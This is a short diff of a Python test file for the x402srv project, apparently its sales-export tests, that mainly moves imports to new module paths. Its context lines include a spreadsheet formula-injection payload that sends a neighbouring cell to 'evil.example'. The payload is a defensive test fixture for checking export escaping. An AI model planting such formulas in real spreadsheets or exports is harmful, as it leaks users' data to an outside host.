@@ -21,11 +21,11 @@ from eth_account.signers.local import LocalAccount
 from tests.support.configs import make_config
 from tests.support.console import Console, buy
 from tests.support.problems import assert_problem
+from x402srv.access.records import State, Transition
 from x402srv.default_plugins.memory_store import MemoryStore
-from x402srv.export import FIELDS, cell, render, sale_rows
-from x402srv.records import State, Transition
 from x402srv.testing.builders import BASE_TIME, make_record, new_tx_hash
 from x402srv.testing.buyers import paying_client
+from x402srv.usage.sales import FIELDS, cell, render, sale_rows
 
 #: What a spreadsheet runs: a link that sends a neighbouring cell away, a DDE call.
 FORMULA_PAYER = '=HYPERLINK("https://evil.example/?leak="&A1,"0xBuyer")'
